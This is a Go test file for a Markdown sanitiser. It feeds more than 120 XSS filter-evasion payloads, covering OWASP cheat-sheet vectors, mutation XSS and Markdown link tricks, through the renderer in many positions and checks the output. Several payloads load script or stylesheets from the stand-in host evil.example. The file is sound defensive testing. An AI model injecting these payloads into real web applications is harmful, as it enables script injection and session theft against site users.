package markup

import (
	"strings"
	"testing"
)

// trick is a way in which script was brought into pages, by the category of the OWASP cheat sheet on the
// evasion of XSS filters, or of Markdown.
type trick struct{ category, text string }

var tricks = []trick{
	{"script, as it is", `<script>alert(1)</script>`},
	{"script, from elsewhere", `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`},
	{"many contexts at once", "javascript:/*--></title></style></textarea></script></xmp>'\"><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(1)//'>"},
	{"malformed a", `\<a onmouseover="alert(document.cookie)"\>link\</a\>`},
	{"malformed a, without quotes", `<a onmouseover=alert(1)>link</a>`},
	{"malformed img", `<IMG """><SCRIPT>alert(1)</SCRIPT>"\>`},
	{"fromCharCode", `<a href="javascript:alert(String.fromCharCode(88,83,83))">x</a>`},
	{"img, src that is no image", `<IMG SRC=# onmouseover="alert(1)">`},
	{"img, src empty", `<IMG SRC= onmouseover="alert(1)">`},
	{"img, no src", `<IMG onmouseover="alert(1)">`},
	{"img, on error", `<IMG SRC=/ onerror="alert(1)"></img>`},
	{"img, on error, with entities", `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">`},
	{"img, javascript", `<IMG SRC="javascript:alert(1);">`},
	{"img, without quotes and semicolon", `<IMG SRC=javascript:alert(1)>`},
	{"img, upper and lower case", `<IMG SRC=JaVaScRiPt:alert(1)>`},
	{"img, entities", `<IMG SRC=javascript:alert(&quot;1&quot;)>`},
	{"img, grave accents", "<IMG SRC=`javascript:alert(\"it's 1\")`>"},
	{"decimal references", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`},
	{"decimal references without semicolons", `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>`},
	{"hexadecimal references without semicolons", `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Aalert(1)">x</a>`},
	{"a tab within", "<a href=\"jav\tascript:alert(1);\">x</a>"},
	{"an encoded tab within", `<a href="jav&#x09;ascript:alert(1);">x</a>`},
	{"an encoded line feed within", `<a href="jav&#x0A;ascript:alert(1);">x</a>`},
	{"an encoded carriage return within", `<a href="jav&#x0D;ascript:alert(1);">x</a>`},
	{"a NUL within", "<IMG SRC=java\x00script:alert(1)>"},
	{"a NUL in the name", "<scr\x00ipt>alert(1)</scr\x00ipt>"},
	{"spaces and control characters before", `<IMG SRC=" &#14; javascript:alert(1);">`},
	{"a slash instead of a space", `<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>`},
	{"other characters instead of a space", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>"},
	{"a slash before the attribute", `<SCRIPT/SRC="https://evil.example/x.js"></SCRIPT>`},
	{"brackets too many", `<<SCRIPT>alert(1);//\<</SCRIPT>`},
	{"no end tag", `<SCRIPT SRC=https://evil.example/x.js?< B >`},
	{"the scheme of the page", `<SCRIPT SRC=//evil.example/.j>`},
	{"half open", "<IMG SRC=\"`('XSS')\"`"},
	{"half open iframe", `<iframe src=https://evil.example/x.html <`},
	{"JavaScript's own quotes", `\";alert(1);//`},
	{"out of JavaScript", `</script><script>alert(1);</script>`},
	{"end of the title", `</TITLE><SCRIPT>alert(1);</SCRIPT>`},
	{"input", `<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">`},
	{"body, background", `<BODY BACKGROUND="javascript:alert(1)">`},
	{"img, dynsrc", `<IMG DYNSRC="javascript:alert(1)">`},
	{"img, lowsrc", `<IMG LOWSRC="javascript:alert(1)">`},
	{"list-style-image", `<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</br>`},
	{"vbscript", `<IMG SRC='vbscript:msgbox("1")'>`},
	{"livescript", `<IMG SRC="livescript:[code]">`},
	{"svg", `<svg/onload=alert('1')>`},
	{"template literals", "Set.constructor`alert\x28document.domain\x29```"},
	{"body, onload", `<BODY ONLOAD=alert(1)>`},
	{"an event that few know", `<details open ontoggle=alert(1)>`},
	{"another one", `<marquee onstart=alert(1)>`},
	{"an animation", `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="alert(1)"></p>`},
	{"focus", `<input autofocus onfocus=alert(1)>`},
	{"bgsound", `<BGSOUND SRC="javascript:alert(1);">`},
	{"JavaScript includes", `<BR SIZE="&{alert(1)}">`},
	{"a style sheet", `<LINK REL="stylesheet" HREF="javascript:alert(1);">`},
	{"a style sheet from elsewhere", `<LINK REL="stylesheet" HREF="https://evil.example/x.css">`},
	{"import", `<STYLE>@import'https://evil.example/x.css';</STYLE>`},
	{"a style sheet as header", `<META HTTP-EQUIV="Link" Content="<https://evil.example/x.css>; REL=stylesheet">`},
	{"moz-binding", `<STYLE>BODY{-moz-binding:url("https://evil.example/x.xml#xss")}</STYLE>`},
	{"broken up by style", `<STYLE>@im\port'\ja\vasc\ript:alert(1)';</STYLE>`},
	{"a style that is broken up", `<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">`},
	{"style in an element that is none", `<XSS STYLE="xss:expression(alert(1))">`},
	{"style, as script", `<STYLE TYPE="text/javascript">alert(1);</STYLE>`},
	{"background-image", `<STYLE>.XSS{background-image:url("javascript:alert(1)");}</STYLE><A CLASS=XSS></A>`},
	{"behaviour", `<XSS STYLE="behavior: url(xss.htc);">`},
	{"US-ASCII", "\xbcscript\xbealert(\xa21\xa2)\xbc/script\xbe"},
	{"meta, refresh", `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">`},
	{"meta, data", `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">`},
	{"meta, a second URL", `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(1);">`},
	{"meta, cookies", `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">`},
	{"iframe", `<IFRAME SRC="javascript:alert(1);"></IFRAME>`},
	{"iframe, event", `<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>`},
	{"iframe, srcdoc", `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`},
	{"frame", `<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>`},
	{"table", `<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND="javascript:alert(1)">`},
	{"div, background-image", `<DIV STYLE="background-image: url(javascript:alert(1))">`},
	{"div, escaped", `<DIV STYLE="background-image:\0075\0072\006C\0028\006a\0061\0076\0061">`},
	{"div, expression", `<DIV STYLE="width: expression(alert(1));">`},
	{"conditional comment", `<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->`},
	{"base", `<BASE HREF="javascript:alert(1);//">`},
	{"object", `<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>`},
	{"embed", `<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`},
	{"XML data island", `<XML ID="x"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML>`},
	{"server-side includes", `<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=https://evil.example/x.js></SCRIPT>'"-->`},
	{"PHP", `<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>`},
	{"commands in an image", `<IMG SRC="https://evil.example/command.php?user=1&delete=2">`},
	{"UTF-7", `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-`},
	{"quotes around quotes", `<SCRIPT a=">" SRC="https://evil.example/x.js"></SCRIPT>`},
	{"quotes of other kinds", "<SCRIPT a=`>` '' SRC=\"https://evil.example/x.js\"></SCRIPT>"},
	{"quotes that are broken up", `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/x.js"></SCRIPT>`},
	{"host as a number", `<A HREF="http://1113982867/">x</A>`},
	{"host in hexadecimal", `<A HREF="http://0x42.0x0000066.0x7.0x93/">x</A>`},
	{"host in octal", `<A HREF="http://0102.0146.0007.00000223/">x</A>`},
	{"an encoded host", `<A HREF="http://%77%77%77%2E%65%76%69%6C">x</A>`},
	{"mixed encoding", "<A HREF=\"h\ntt\tp://6\t6.000146.0x7.147/\">x</A>"},
	{"a link that is script", `<A HREF="javascript:document.location='https://evil.example/'">x</A>`},
	{"an event that is split", "<img src=x on\nerror=alert(1)>"},
	{"entities instead of brackets", `&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;script&#x3e; &LT;script&GT;`},
	{"entities twice", `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`},
	{"other brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u2039script\u203a"},
	{"mutation, MathML", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`},
	{"mutation, noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`},
	{"mutation, template", `<template><s><template><s><img src=x onerror=alert(1)>@</s></template>`},
	{"mutation, SVG", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`},
	{"mutation, comment", `<!--><img src=x onerror=alert(1)>-->`},
	{"mutation, CDATA", `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)>"></svg>`},
	{"mutation, plaintext", `<plaintext><p id=x>&lt;/plaintext></p><xmp></xmp>`},
	{"names that hide others", `<form id=document name=cookie><input name=attributes><a id=x name=y href="cid:x">`},
	{"a form of another one's", `<form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button></form>`},
	{"SVG, animated", `<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>x</text></a></svg>`},
	{"SVG, use", `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"></use></svg>`},
	{"video", `<video><source onerror="alert(1)"></video>`},
	{"a download", `<a href="data:text/html;base64,PHNjcmlwdD4=" download>x</a>`},
	{"ping", `<a href="https://x.org" ping="https://evil.example/">x</a>`},

	{"Markdown, link", `[x](javascript:alert(1))`},
	{"Markdown, link in upper case", `[x](JAVASCRIPT:alert(1))`},
	{"Markdown, link in brackets", `[x](<javascript:alert(1)>)`},
	{"Markdown, link with a colon of entities", `[x](javascript&colon;alert(1)) [y](javascript&#58;alert(1)) [z](&#x6A&#x61vascript:alert(1))`},
	{"Markdown, link with entities", `[x](&#106;avascript:alert(1)) [y](java&Tab;script:alert(1)) [z](java&NewLine;script:alert(1))`},
	{"Markdown, link with backslashes", `[x](javascript\:alert(1)) [y](j\avascript:alert(1)) [z](\javascript:alert(1))`},
	{"Markdown, link with control characters", "[x](\x01javascript:alert(1)) [y](java\x00script:alert(1)) [z](<java\u200bscript:alert(1)>)"},
	{"Markdown, link with spaces", "[x]( javascript:alert(1) ) [y](<\tjavascript:alert(1)>) [z](<  javascript:alert(1)>)"},
	{"Markdown, link of other schemes", `[a](data:text/html,x) [b](vbscript:x) [c](file:///etc/passwd) [d](blob:x) [e](view-source:x) [f](intent://x) [g](about:blank)`},
	{"Markdown, link that leaves its attribute", `[x](https://x.org/"onmouseover="alert(1)) [y](<https://x.org/" onclick="alert(1)>) [z](https://x.org/'><script>)`},
	{"Markdown, title that leaves its attribute", `[x](https://x.org "a\" onmouseover=\"alert(1)") [y](https://x.org 'a" onclick="b')`},
	{"Markdown, image", `![x](javascript:alert(1)) ![y](data:image/svg+xml;base64,PHN2Zz4=) ![z](https://x.org/x"onerror="alert(1))`},
	{"Markdown, alt that leaves its attribute", `![x" onerror="alert(1)](https://x.org/x.png) ![<img src=x onerror=alert(1)>](https://x.org)`},
	{"Markdown, autolink", `<javascript:alert(1)> <JAVASCRIPT:alert(1)> <data:text/html,x> <https://x.org/"onclick="alert(1)>`},
	{"Markdown, reference", "[x]\n\n[x]: javascript:alert(1) \"t\"\n[y]: https://x.org '\"><script>'"},
	{"Markdown, code", "`<script>alert(1)</script>` ``</code><script>``"},
	{"Markdown, language of code", "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```"},
	{"Markdown, attributes", `# x {onclick="alert(1)"}` + "\n\n![x](https://x.org){onerror=alert(1)}"},
	{"Markdown, link in a link", `[![x](https://x.org/"onerror=")](javascript:alert(1)) [[x](javascript:1)](javascript:2)`},
	{"Markdown, HTML within links", `[<img src=x onerror=alert(1)>](https://x.org) [a](https://x.org/<script>)`},
	{"Markdown, mail", `<x@y.org"onclick="alert(1)> [m](mailto:x@y.org?body=<script>) [n](mailto:"<script>"@y.org)`},
	{"Markdown, hosts that are none", `[a](https://x.org\@evil.example) [b](https://"><script>) [c](https://x.org:80"><script>) [d](https://[::1"><script>])`},
	{"Markdown, comment", `<!-- --><script>alert(1)</script> --!> [x](https://x.org/--><script>)`},
}

// TestStoredScriptTricks proves of each trick, alone and in each place where Markdown may have it, that
// no more comes out than the subset.
func TestStoredScriptTricks(t *testing.T) {
	t.Parallel()
	if len(tricks) < 120 {
		t.Fatalf("%d tricks", len(tricks))
	}
	for _, c := range tricks {
		t.Run(c.category, func(t *testing.T) {
			t.Parallel()
			d := proven(t, c.text)
			if d.HTML == "" {
				t.Error("what was written is not shown")
			}
			line := strings.ReplaceAll(c.text, "\n", " ")
			for _, place := range []string{
				"[x](%)", "[x](<%>)", "![x](%)", "![%](https://x.org/x.png)", "[%](https://x.org)", "[x](https://x.org/%)", "[x](https://x.org/?%#%)",
				`[x](https://x.org "%")`, "<%>", "<https://x.org/%>", "https://x.org/%", "`%`", "**%**", "~~%~~", "> %", "- %", "# %", "```%\n%\n```",
				"mailto:%", "[x](mailto:%)", "[x](javascript:%)", "[x](https://%)", "[x]: %", "\\%", "&%;", "%\n%",
			} {
				proven(t, strings.ReplaceAll(place, "%", line))
			}
		})
	}
}
